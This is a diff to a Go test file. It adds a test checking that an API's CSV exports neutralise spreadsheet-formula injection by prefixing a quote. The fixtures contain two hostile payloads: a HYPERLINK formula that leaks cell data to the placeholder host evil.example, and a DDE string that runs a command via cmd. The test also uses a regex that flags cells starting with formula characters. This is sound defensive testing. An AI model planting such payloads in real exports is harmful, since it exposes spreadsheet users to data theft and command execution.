@@ -122,6 +122,51 @@ func TestCSV(t *testing.T) {
 	assert.True(t, found)
 }
 
+// TestCSVFormulasNeutralised: a request titled like a spreadsheet formula
+// is downloaded with a quote in front, in every CSV the API writes it to
+// (the requests view, the log's why, the decisions view); numbers stay
+// numbers.
+func TestCSVFormulasNeutralised(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, options{})
+	const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open")`
+	a := f.post("sally", `{"action":"request.submit","args":{"id":"REQ-F","title":"=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")","why":"@SUM(1+1)*cmd|' /C calc'!A0"}}`)
+	require.Equal(t, 201, a.status, "%s", a.body)
+	min := "&minSeq=" + seqOf(t, a)
+	cells := func(path string) [][]string {
+		t.Helper()
+		a := f.do(call{path: path + min})
+		require.Equal(t, 200, a.status, "%s", a.body)
+		rows, err := csv.NewReader(bytes.NewReader(a.body)).ReadAll()
+		require.NoError(t, err)
+		return rows
+	}
+	var found int
+	for _, r := range cells("/api/v1/products/checkout/requests?format=csv&status=pending") {
+		if r[0] == "REQ-F" {
+			found++
+			assert.Equal(t, "'"+title, r[2])
+			assert.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", r[3], "the business case")
+		}
+	}
+	for _, r := range cells("/api/v1/products/checkout/decisions?request=REQ-F&format=csv") {
+		if r[0] != "seq" {
+			found++
+			assert.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", r[9], "the why")
+		}
+	}
+	for _, r := range cells("/api/v1/products/checkout/backlog?format=csv&status=all") {
+		for _, c := range r {
+			assert.NotRegexp(t, `^[=+@\t\r]`, c)
+		}
+		if r[0] != "rank" && r[9] != "" {
+			_, err := strconv.ParseFloat(r[9], 64)
+			assert.NoError(t, err, "a score stays a number: %q", r[9])
+		}
+	}
+	assert.Equal(t, 2, found)
+}
+
 func seqOf(t *testing.T, a answer) string {
 	t.Helper()
 	evs := a.json(t)["events"].([]any)
